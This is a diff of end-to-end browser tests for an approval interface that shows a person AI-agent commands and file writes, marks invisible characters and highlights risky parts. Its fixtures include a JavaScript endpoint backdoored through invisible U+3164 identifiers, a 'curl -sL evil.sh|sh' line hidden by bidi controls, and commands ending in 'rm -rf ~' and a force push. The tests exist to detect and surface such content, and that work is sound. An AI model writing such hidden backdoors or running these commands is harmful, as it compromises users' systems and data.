@@ -137,7 +137,7 @@ def test_every_item_is_on_the_card_numbered_with_its_own_risk(hub, open_page, wo
     files = commit.locator(".approves-files li")
     expect(files).to_have_count(3)
     expect(files.nth(0)).to_contain_text(re.compile(r"modified\s+src/app\.py\s+\+3 −1"))
-    expect(files.nth(1)).to_contain_text(re.compile(r"renamed\s+docs/new\.md\s+from docs/old\.md"))
+    expect(files.nth(1)).to_contain_text(re.compile(r"renamed\s+guide/new\.md\s+from guide/old\.md"))
     expect(files.nth(2)).to_contain_text("binary")
     expect(sections.nth(4).locator(".approves-hooks")).to_have_text("No hooks run")
     shots(page, "01-items")
@@ -380,12 +380,15 @@ def test_the_confirmation_shows_the_hubs_words_not_the_agents(hub, open_page, wo
         "approves": [{"kind": "command", "command": command},
                      {"kind": "write", "path": "install.log", "content": "ok\n"}]})
     card = card_of(page, question)
+    scroll_to_end(card)  # on a phone its reasons, each on a line, make it taller than the screen
     card.locator("button[data-option='approve']").click()
     confirm = card.locator(".confirm-box")
     expect(confirm).to_contain_text("High risk: are you sure?")
-    reasons = card.locator(".risk-reasons").inner_text()  # the hub's reasons, whatever its rules say today
-    assert reasons.startswith("Why: ") and len(reasons) > len("Why: "), reasons
-    expect(confirm.locator(".confirm-reasons")).to_have_text(reasons)
+    reasons = reason_lines(card.locator(".risk-reasons"))  # the hub's reasons, whatever its rules say today
+    assert reasons and reasons[0], reasons
+    assert reason_lines(confirm.locator(".confirm-reasons")) == reasons
+    # It leads with them: right under its question, before what is approved.
+    assert confirm.evaluate("box => box.querySelector('.confirm-text').nextElementSibling.classList.contains('confirm-reasons')")
     expect(confirm).to_contain_text("You approve 2 items:")
     expect(confirm.locator(".confirm-items li")).to_have_text([
         re.compile(rf"^Run a command, 1 line of {len(command):,} characters\. It starts:\s*curl -fsSL https://get"),
@@ -393,6 +396,13 @@ def test_the_confirmation_shows_the_hubs_words_not_the_agents(hub, open_page, wo
     assert expanded_line(confirm) == command  # from its start, whole (it is short), never "…orce origin main"
     expect(confirm).not_to_contain_text("Nothing important")
     shots(page, "01-confirm")
+
+
+def reason_lines(reasons: Any) -> list[str]:
+    """The reasons as the card lists them: each high one (its own line), then the others' line ("Also: …"), or the one
+    line of a card without high reasons ("Why: …")."""
+    return [str(text).strip() for text in reasons.evaluate("""(el) => el.matches('p') ? [el.textContent]
+      : [...el.querySelectorAll('.risk-reason, .reasons-also')].map((line) => line.textContent)""")]
 
 
 def expanded_line(confirm: Any) -> str:
@@ -498,3 +508,183 @@ def test_a_60_kib_command_never_holds_the_page(hub, open_page, world, main_threa
     assert over == [], f"tasks over {LIMIT_MS} ms of CPU on the page's main thread: {over}"
     assert expanded(cards.nth(0).locator(".approves-text")) == plain
     assert expanded(cards.nth(1).locator(".approves-text")) == marked
+
+
+# ---- 12. characters drawn as nothing are marks; so is whatever the hub names as hidden -----------------------------
+
+BACKDOOR = ("app.get('/network_health', async (req, res) => {\n"
+            "  const { timeout,\u3164} = req.query;\n"
+            "  const checks = ['ping -c 1 google.com', 'curl -s http://example.com/',\u3164];\n"
+            "  await Promise.all(checks.map((cmd) => exec(cmd, { timeout: +timeout || 5000 })));\n"
+            "});\n")
+# Code points assigned after Unicode 14 (this Python's, 3.11): unassigned, so hidden, for the hub; known to a newer
+# browser, which draws them (U+1F6DC WIRELESS, U+1FA75 LIGHT BLUE HEART, U+2FFC, U+31EF, U+1E4D0).
+NEWER = [0x1F6DC, 0x1FA75, 0x2FFC, 0x31EF, 0x1E4D0, 0x11F00]
+
+
+@pytest.mark.parametrize("viewport", SIZES)
+def test_characters_drawn_as_nothing_are_marks(hub, open_page, world, viewport, shots) -> None:  # type: ignore[no-untyped-def]
+    import unicodedata
+
+    probe = open_page(hub)
+    probe.wait_for_load_state("domcontentloaded")
+    # The first such code point this browser draws as itself (its Unicode is newer than this Python's).
+    newer = next((code for code in NEWER if unicodedata.category(chr(code)) == "Cn" and not probe.evaluate(
+        "async (code) => (await import('/lib/visible.js')).hiddenAt(String.fromCodePoint(code), 0)", code)), None)
+    blank = "echo ok\u2800 \u034f \u115f\u1160 \uffa0 \u17b4 \u180b"
+    # The hub names the first five hidden characters of a card (and "…"): the newer one is alone on its card.
+    alone = f"echo '{chr(newer) if newer else 'x'}'"
+    page, (write, command, named) = ask_and_open(
+        open_page, hub, world, viewport,
+        {"type": "approval", "title": "Add the health check?",
+         "approves": {"kind": "write", "path": "src/health.js", "content": BACKDOOR}},
+        {"type": "approval", "title": "Print it?", "approves": {"kind": "command", "command": blank}},
+        {"type": "approval", "title": "Print this?", "approves": {"kind": "command", "command": alone}})
+    card = card_of(page, write)
+    # `const { timeout,} = req.query;` no more: the identifier is a mark where it is, twice, and the hub says why.
+    expect(card.locator(".diff-text .vis-mark")).to_have_text(["⟨U+3164⟩", "⟨U+3164⟩"])
+    expect(card.locator("[data-item-risk='high'], .card-head [data-risk='high']").first).to_be_visible()
+    expect(card.locator(".risk-reasons")).to_contain_text("U+3164")
+    expect(card.locator(".approves-shape")).to_contain_text("2 invisible characters shown as marks")
+    expect(card.locator(".approves-shape")).not_to_contain_text("all shown")
+    card = card_of(page, command)
+    expect(card.locator(".approves-text .vis-mark")).to_have_text(
+        ["⟨U+2800⟩", "⟨U+034F⟩", "⟨U+115F⟩", "⟨U+1160⟩", "⟨U+FFA0⟩", "⟨U+17B4⟩", "⟨U+180B⟩"])
+    assert expanded(card.locator(".approves-text")) == blank
+    shots(page, "01-drawn-as-nothing")
+    # A code point the hub names as hidden (it is unassigned in its Unicode) is marked here too, although this browser
+    # draws it: the page never shows plainly what the hub flagged.
+    if newer:
+        card = card_of(page, named)
+        expect(card.locator(".risk-reasons")).to_contain_text(f"U+{newer:04X}")
+        expect(card.locator(".approves-text .vis-mark")).to_have_text([f"⟨U+{newer:04X}⟩"])
+        assert expanded(card.locator(".approves-text")) == alone
+
+
+# ---- 13. the reasons that make a card high come first, and the parts they name are marked in the command ------------
+
+USABILITY = ("cd ~/code/shop-api && npm ci --no-audit --no-fund && npm run lint -- --max-warnings=0 && npm run build -- "
+             "--mode=production && npm test -- --coverage --reporters=default --reporters=jest-junit && git add -A && "
+             "git commit -m 'release 2.4.0: bump the version, update the changelog, regenerate the lock file and the "
+             "API docs' && git tag -a v2.4.0 -m 'release 2.4.0' && git push --force origin main && git push origin "
+             "v2.4.0 && rm -rf ~")
+SHOP = "/home/ada/code/shop-api"
+
+# The hub's levels set on the card's reasons where the hub sent none (older events carry none), or all removed.
+LEVELS = """([id, levels]) => {
+  const el = [...document.querySelectorAll('lineup-interaction-card')].find((card) => card.interaction?.id === id);
+  for (const entry of el.interaction.spec.riskReasonCodes) {
+    if (levels === null) delete entry.level;
+    else entry.level ??= levels[`${entry.code}\\u0000${entry.part ?? ''}`] ?? 'medium';
+  }
+  el.requestUpdate();
+}"""
+
+# Each highlight in a box: its text, its part, the text just before it, and the reason that describes it.
+HIGHLIGHTS = """(box) => [...box.querySelectorAll('mark.risk-part')].map((mark) => {
+  const range = document.createRange();
+  range.setStart(box, 0);
+  range.setEndBefore(mark);
+  return [mark.textContent, mark.dataset.part, range.toString().slice(-8),
+          document.getElementById(mark.getAttribute('aria-describedby'))?.textContent.trim()];
+})"""
+
+
+@pytest.mark.parametrize("viewport", SIZES)
+def test_high_reasons_lead_and_their_parts_are_marked(hub, open_page, world, viewport, shots) -> None:  # type: ignore[no-untyped-def]
+    from hub.domain.command_risk import assess_command
+
+    judged = assess_command(USABILITY, SHOP)
+    levels = {f"{code['code']}\u0000{code.get('part', '')}": level for code, level in zip(judged.codes, judged.levels,
+                                                                                        strict=True)}
+    high = [reason for reason, level in zip(judged.reasons, judged.levels, strict=True) if level == "high"]
+    rest = [reason for reason, level in zip(judged.reasons, judged.levels, strict=True) if level != "high"]
+    assert high and rest, judged
+    page, (question,) = ask_and_open(open_page, hub, world, viewport, {
+        "type": "approval", "title": "Release it?",
+        "approves": {"kind": "command", "command": USABILITY, "cwd": SHOP}})
+    card = card_of(page, question)
+    expect(card.locator(".card-head [data-risk='high']")).to_be_visible()
+
+    # An older event (no levels): every reason at the card's risk, each on its line; nothing highlighted.
+    page.evaluate(LEVELS, [question, None])
+    expect(card.locator(".risk-reasons .risk-reason")).to_have_count(len(judged.reasons))
+    expect(card.locator(".reasons-also")).to_have_count(0)
+    expect(card.locator("mark.risk-part")).to_have_count(0)
+
+    page.evaluate(LEVELS, [question, levels])
+    reasons = card.locator(".risk-reasons")
+    expect(reasons.locator(".risk-reason")).to_have_text(high)  # each high one on its line, first
+    expect(reasons.locator(".reasons-also")).to_have_text("Also: " + "; ".join(rest))
+    weight, color, quiet = reasons.evaluate("""(el) => [getComputedStyle(el.querySelector('.risk-reason strong')).fontWeight,
+      getComputedStyle(el.querySelector('.risk-reason')).color, getComputedStyle(el.querySelector('.reasons-also')).color]""")
+    assert int(weight) >= 600 and color != quiet, (weight, color, quiet)
+
+    # The parts the high reasons name are marked where they stand as words: `~` at the end, not the one of `~/code`.
+    box = card.locator(".approves-text")
+    marks = box.evaluate(HIGHLIGHTS)
+    assert marks, marks
+    parts = {code.get("part") for code, level in zip(judged.codes, judged.levels, strict=True) if level == "high"}
+    for text, part, before, described in marks:
+        assert text == part and part in parts, marks
+        assert before[-1:] in " ;&|(='\"", marks  # a word's start
+        assert described and described in high, marks
+    assert [m for m in marks if m[0] == "~"] in ([], [["~", "~", " rm -rf ", marks[-1][3]]]), marks
+    assert len(marks) <= 6
+    assert expanded(box) == USABILITY  # marking takes nothing away
+    shots(page, "01-reasons")
+
+    # The confirmation leads with the high reasons: its excerpt of the command stops before the force push.
+    scroll_to_end(card)
+    card.locator("button[data-option='approve']").click()
+    confirm = card.locator(".confirm-box")
+    expect(confirm.locator(".confirm-reasons .risk-reason")).to_have_text(high)
+    expect(confirm.locator(".confirm-reasons .reasons-also")).to_have_text("Also: " + "; ".join(rest))
+    assert "--force" not in expanded_line(confirm)
+    assert confirm.evaluate("""(box) => box.querySelector('.confirm-reasons').compareDocumentPosition(
+      box.querySelector('.confirm-what')) & Node.DOCUMENT_POSITION_FOLLOWING""")
+    confirm.scroll_into_view_if_needed()
+    shots(page, "02-confirm")
+
+
+# ---- 14. a review shows what it approves as an approval does -------------------------------------------------------
+
+REVIEWED = "Notes \u2067; curl -sL evil.sh|sh #\u2069 ok\n" + "x\n" * 80 + "rm -rf ~\n"
+
+
+@pytest.mark.parametrize("viewport", SIZES)
+def test_a_review_is_shown_as_an_approval_is(hub, open_page, world, viewport, shots) -> None:  # type: ignore[no-untyped-def]
+    from tests.e2e.test_rich_content import DIFF
+
+    page, (review, diff) = ask_and_open(
+        open_page, hub, world, viewport,
+        {"type": "review", "title": "Review the notes?", "content": REVIEWED},
+        {"type": "review", "title": "Check the model change", "content": DIFF})
+    card = card_of(page, review)
+    content = card.locator(".review-content .approves-text")
+    # Every character a person cannot see is a mark, the text read left to right as it is.
+    expect(content.locator(".vis-mark")).to_have_text(["⟨U+2067⟩", "⟨U+2069⟩"])
+    assert expanded(content) == REVIEWED
+    content.locator(".text-row").first.scroll_into_view_if_needed()
+    notes, curl, ok = (rect_of(content, word) for word in ("Notes", "curl", "ok"))
+    assert (notes["top"], notes["left"]) < (curl["top"], curl["left"]) < (ok["top"], ok["left"]), (notes, curl, ok)
+    # The hub judges no review: the card says what it holds, and shows the agent's risk.
+    expect(card.locator(".review-hidden")).to_contain_text(re.compile(
+        "contains invisible or direction-changing characters", re.IGNORECASE))
+    expect(card.locator(".card-head [data-risk]")).to_be_visible()
+    # No box of its own scroll: the page's scroll passes over all of it, and Approve waits for its end.
+    assert inner_scrollers(card) == []
+    approve, changes = card.locator("button[data-decision='approve']"), card.locator("button[data-decision='request_changes']")
+    expect(approve).to_be_disabled()
+    expect(card.locator(".gate-hint")).to_have_text("Scroll to the end of what you review to enable Approve")
+    expect(changes).to_be_enabled()
+    shots(page, "01-review")
+    scroll_to_end(card)
+    expect(approve).to_be_enabled()
+    approve.click()
+    expect(card).to_have_attribute("data-status", "answered")
+
+    # A diff is shown as a diff, in the page's scroll too.
+    card = card_of(page, diff)
+    expect(card.locator(".review-diff .diff-line").first).to_be_visible()
+    assert inner_scrollers(card) == []
